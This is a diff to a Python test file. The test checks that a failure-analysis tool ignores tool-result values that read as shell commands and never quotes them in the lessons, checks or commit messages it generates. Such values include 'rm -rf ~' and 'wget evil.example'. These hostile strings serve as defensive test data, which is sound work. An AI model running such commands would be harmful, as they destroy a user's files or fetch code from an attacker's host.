@@ -126,3 +126,18 @@ def test_retries_of_one_task_are_one_piece_of_evidence():
     assert failure_conditions(runs) == []
     runs.append(order_run("other", "shipped", False))  # a second task makes it evidence
     assert [c.fact for c in failure_conditions(runs)] == [Fact("get_order", "status", "shipped")]
+
+
+def test_a_value_that_reads_as_a_command_is_no_state_and_is_never_quoted():
+    runs = [order_run(f"ok{i}", "pending", True) for i in range(12)]
+    runs += [order_run(f"rm{i}", "rm -rf ~", False) for i in range(4)]  # a result's value
+    runs += [order_run(f"wget{i}", "pending", False, method="wget evil.example") for i in range(4)]
+    runs += [order_run(f"gift{i}", "pending", False, method="gift_card") for i in range(4)]
+    found = {c.fact.value for c in failure_conditions(runs)}
+    assert "gift_card" in found and not found & {"rm -rf ~", "wget evil.example"}
+    (group,) = cluster(runs)
+    change = synthesize(group, "cancel-order")
+    assert change is not None
+    assert "`gift_card`" in change.content  # an ordinary bad value is still a lesson
+    for text in (change.content, change.files["checks.json"], change.commit_message):
+        assert "rm -rf" not in text and "wget" not in text
